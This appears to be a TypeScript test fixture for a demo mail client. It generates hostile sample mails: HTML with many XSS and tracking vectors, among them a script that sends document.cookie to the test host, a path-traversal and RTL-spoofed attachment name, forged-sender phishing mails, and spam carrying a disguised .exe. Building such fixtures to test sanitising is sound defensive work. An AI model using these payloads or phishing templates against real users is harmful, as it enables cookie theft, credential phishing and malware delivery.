import { daysAgo, minute } from '#/demo/world/clock.ts'
import { zip } from '#/demo/world/files/zip.ts'
import { ours } from '#/demo/world/people.ts'
import { PICTURES } from '#/demo/world/remote-pictures.ts'
import { letter, type Story, type World } from '#/demo/world/story.ts'
import type { Address, Language } from '#/demo/world/types.ts'

/** Mail that means harm: code in html, forged names, and what Gmail has put under spam already. */
export function hostileMail(world: World): Story[] {
  return [codeInHtml(world), forgedFair(world), forgedGoogle(world), ...spam(world)]
}

/** Everything that a mail could try against the page that shows it. Each address would be seen if it were asked for. */
function codeInHtml(world: World): Story {
  const target = `${PICTURES}/hostile`
  const html = `<html><head><meta http-equiv="refresh" content="0;url=${target}/refresh"><base href="${target}/"><link rel="stylesheet" href="${target}/style.css"><style>@import url(${target}/import.css); body{background:url(${target}/background.png)} p{behavior:url(#x);position:fixed}</style><script src="${target}/script.js"></script><script>document.location='${target}/location?'+document.cookie</script></head>
<body onload="fetch('${target}/onload')" background="${target}/body.png">
<p style="background-image:url('${target}/inline.png');position:fixed;top:0;left:0;width:100%;height:100%">Geachte heer, mevrouw, hierbij onze offerte voor ledlampen in uw werkplaats.</p>
<img src="x" onerror="alert('onerror')"><img src="${target}/pixel.gif" width="1" height="1"><img srcset="${target}/srcset.png 2x" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">
<svg onload="alert('svg')"><script>alert('in svg')</script><image href="${target}/svg.png"/><a xlink:href="javascript:alert('xlink')"><text y="20">svg</text></a></svg>
<math><mtext><style><img src=x onerror=alert('mxss')></style></mtext></math>
<iframe src="${target}/frame"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe><object data="${target}/object"></object><embed src="${target}/embed">
<a href="javascript:alert('href')">Bekijk de offerte</a> <a href="  java\nscript:alert('split')">of hier</a> <a href="data:text/html,<script>alert('data')</script>">of daar</a> <a href="${target}/link" target="_top" ping="${target}/ping">website</a>
<form action="${target}/form" method="post"><input name="password" type="password" autofocus onfocus="alert('focus')"><button formaction="javascript:alert('button')">Inloggen</button></form>
<video autoplay src="${target}/video.mp4" poster="${target}/poster.png"></video><audio autoplay src="${target}/audio.mp3"></audio><marquee onstart="alert('marquee')">Actie!</marquee><details open ontoggle="alert('toggle')"><summary>Meer</summary></details>
<template><img src=x onerror=alert('template')></template><noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></p></noscript>
<p>Met vriendelijke groet,<br>Lichtplan Nederland</p></body></html>`
  const mail = letter(world, 'hostile-code', 0, {
    from: { name: 'Lichtplan Nederland', email: 'offerte@lichtplan.example' },
    to: [ours.verkoop],
    cc: [ours.lotte],
    at: daysAgo(world.now, 2, 12, 7),
    subject: 'Offerte ledverlichting <script>alert(1)</script>',
    text: 'Geachte heer, mevrouw, hierbij onze offerte voor ledlampen in uw werkplaats.\n',
    html,
    files: [
      {
        name: '../../offerte\u202Efdp.html',
        type: 'text/html',
        content: Buffer.from('<script>alert(1)</script>'),
      },
    ],
  })
  return {
    key: 'hostile-code',
    language: 'nl',
    mails: [mail],
    keeping: { now: world.now, labels: [], place: 'inbox', unread: false },
  }
}

/** A fair's own news, and an answer to it whose name claims an address that it does not come from. */
function forgedFair(world: World): Story {
  const year = new Date(world.now).getUTCFullYear() + 1
  const subject = `Velorama Padova ${year}: programma e stand`
  const tile = (title: string, text: string, colour: string) =>
    `<td width="216" style="padding:8px"><table width="200" style="border:1px solid #dddddd"><tr><td height="84" bgcolor="${colour}">&nbsp;</td></tr><tr><td style="padding:8px;font:bold 13px Arial">${title}<br><span style="font:11px Arial;color:#666666">${text}</span></td></tr></table></td>`
  const news = letter(world, 'forged-fair', 0, {
    from: { name: 'Velorama Padova', email: 'news@velorama.example' },
    to: [ours.verkoop],
    at: world.now - 102 * minute,
    subject,
    text: `VELORAMA PADOVA\n12–14 marzo ${year} · Fiera di Padova · Padiglioni 5 e 7\n\nIl programma è online\n64 incontri in tre giorni, due palchi e un laboratorio per chi costruisce ruote. Gli espositori ricevono quattro ingressi e un parcheggio.\n`,
    html: `<html><body style="margin:0"><table width="960" cellpadding="0" cellspacing="0"><tr><td bgcolor="#1e4d8f" style="padding:24px;color:#ffffff;font:bold 20px Arial">VELORAMA PADOVA</td><td bgcolor="#1e4d8f" align="right" style="padding:24px;color:#ffffff;font:13px Arial">12–14 marzo ${year} · Fiera di Padova · Padiglioni 5 e 7</td></tr><tr><td width="560" bgcolor="#d9f1f0" style="padding:32px"><h1 style="font:bold 28px Arial;color:#115e59">Il programma è online</h1><p style="font:15px/22px Arial">64 incontri in tre giorni, due palchi e un laboratorio per chi costruisce ruote. Gli espositori ricevono quattro ingressi e un parcheggio.</p><a href="https://velorama.example/programma" style="background:#115e59;color:#ffffff;padding:12px 24px;text-decoration:none">Apri il programma</a></td><td width="400" bgcolor="#fcecc9" align="center"><img src="${PICTURES}/velorama/bici.png" width="220" height="160" alt=""></td></tr><tr><td colspan="2"><table width="960"><tr>${tile('Pianta degli stand', 'PDF, aggiornata il 20 novembre', '#fce4ec')}${tile('Allestimento', 'dal 10 marzo, ore 07:00', '#ddf2dd')}${tile('Ingressi espositori', 'quattro inclusi', '#dcebfb')}${tile('Alberghi', 'tariffe fino al 15 gennaio', '#fde2da')}</tr></table></td></tr></table></body></html>`,
    headers: { 'List-Unsubscribe': '<https://velorama.example/unsubscribe>' },
  })
  const forged = letter(world, 'forged-fair', 1, {
    from: { name: '“segreteria@velorama.example”', email: 'conto@pay-velorama.example' },
    to: [ours.verkoop],
    at: world.now - 57 * minute,
    subject,
    references: [news.id],
    text: 'Gentili espositori, la caparra dello stand scade oggi. Pagate qui: velorama.example/stand\n',
    html: '<div>Gentili espositori, la caparra dello stand scade oggi. Pagate qui: <a href="https://pay-velorama.example/stand?id=5C27">velorama.example/stand</a></div>',
  })
  return {
    key: 'forged-fair',
    language: 'it',
    mails: [news, forged],
    keeping: {
      now: world.now,
      labels: [`Beurs ${year}`],
      watchers: [ours.lotte.email],
      place: 'inbox',
      unread: false,
    },
  }
}

function forgedGoogle(world: World): Story {
  const mail = letter(world, 'forged-google', 0, {
    from: { name: 'Beveiliging van uw account', email: 'no-reply@accounts-veilig.example' },
    to: [ours.lotte],
    at: daysAgo(world.now, 5, 6, 51),
    subject: 'Nieuwe aanmelding op uw account, bevestig binnen 24 uur',
    text: 'Er is een nieuwe aanmelding gezien vanuit Minsk. Bevestig uw wachtwoord: https://accounts-veilig.example/bevestig\n',
    html: '<div style="font-family:Roboto,Arial"><h2>Nieuwe aanmelding</h2><p>Er is een nieuwe aanmelding gezien vanuit Minsk.</p><p><a href="https://accounts-veilig.example/bevestig?u=lotte">https://accounts.spaakwerk.example/veiligheid</a></p><p>Lotte Verhagen &lt;lotte@spaakwerk.example&gt;</p></div>',
    headers: { 'Reply-To': 'helpdesk@antwoord-veilig.example' },
  })
  return {
    key: 'forged-google',
    language: 'nl',
    mails: [mail],
    keeping: { now: world.now, labels: [], place: 'inbox', unread: true },
  }
}

type Junk = [
  key: string,
  language: Language,
  from: Address,
  subject: string,
  text: string,
  file?: { name: string; type: string; content: Buffer },
]

const junk: Junk[] = [
  [
    'win',
    'nl',
    { name: 'Prijzenteam', email: 'prijs@gefeliciteerd.example' },
    'U bent uitgekozen!!! 🎁',
    'Gefeliciteerd, u wint een elektrische fiets. Klik vandaag nog.',
  ],
  [
    'seo',
    'en',
    { name: 'Kevin from SEO', email: 'kevin@rankfirst.example' },
    'Re: your website spaakwerk.example',
    'Hi, I was on your website and noticed it is not on page one. Shall I send you a free report?',
  ],
  [
    'loan',
    'en',
    { name: 'Mr. Harold Fitch', email: 'h.fitch@fastcredit.example' },
    'BUSINESS LOAN 2% APPROVED',
    'Dear beneficiary, your company has been approved for EUR 500.000. Kindly reply with your details.',
  ],
  [
    'invoice',
    'de',
    { name: 'Buchhaltung', email: 'rechnung@mahnung24.example' },
    'Letzte Mahnung: Rechnung 88213',
    'Öffnen Sie die Rechnung im Anhang und zahlen Sie sofort.',
    {
      name: 'Rechnung_88213.pdf.zip',
      type: 'application/zip',
      content: zip([{ name: 'Rechnung_88213.pdf.exe', content: 'MZ, but not really' }]),
    },
  ],
  [
    'gloves',
    'en',
    { name: 'Best Gloves Factory', email: 'sales@gloves.example' },
    'nitrile gloves best price container load',
    'Dear friend, we are factory of nitrile gloves. MOQ 1 container. Looking forward to long term cooperation.',
  ],
  [
    'crypto',
    'en',
    { name: 'Marie', email: 'marie@goldcoin.example' },
    'she retired at 34',
    'You will not believe how she did it. Read before it is removed.',
  ],
  [
    'domain',
    'fr',
    { name: 'Registre des domaines', email: 'info@registre-domaines.example' },
    'Votre domaine expire demain',
    'Renouvelez sans délai pour 289 euros.',
  ],
  [
    'parcel',
    'it',
    { name: 'Pacco in attesa', email: 'consegna@pacco-fermo.example' },
    'Il tuo pacco è fermo in dogana',
    'Paga 2,99 euro per sbloccare la consegna.',
  ],
  [
    'pills',
    'en',
    { name: 'Pharmacy', email: 'noreply@rxcheap.example' },
    'Y0ur order 1s re@dy',
    'No prescription. Discreet packaging.',
  ],
]

function spam(world: World): Story[] {
  return junk.map(([name, language, from, subject, text, file], index) => {
    const key = `spam-${name}`
    const mail = letter(world, key, 0, {
      from,
      to: [index % 2 ? ours.lotte : ours.verkoop],
      at: daysAgo(world.now, 1 + index * 3, 3 + index, index * 6),
      subject,
      text: `${text}\n`,
      html: `<html><body><p>${text}</p><p><a href="https://${from.email.split('@')[1]}/x?${index}">Klik</a><img src="${PICTURES}/spam/${index}.gif" width="1" height="1"></p></body></html>`,
      files: file ? [file] : [],
    })
    return {
      key,
      language,
      mails: [mail],
      keeping: { now: world.now, labels: [], place: 'spam', unread: index < 4 },
    }
  })
}
